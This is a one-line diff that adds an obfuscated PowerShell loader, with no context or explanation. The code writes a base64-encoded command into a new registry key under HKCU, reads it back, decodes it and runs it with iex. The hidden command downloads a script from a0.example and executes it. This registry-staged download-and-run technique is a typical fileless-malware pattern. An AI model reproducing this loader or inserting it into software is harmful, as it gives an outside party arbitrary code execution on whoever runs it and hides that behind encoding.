@@ -1,0 +1,1 @@
+$k='HKCU:\Software\zz';ni $k -Force|Out-Null;sp $k -Name v -Value 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAwAC4AZQB4AGEAbQBwAGwAZQAvAHAALgB0AHgAdAAnACkA';$c=(gp $k).v;iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($c)))
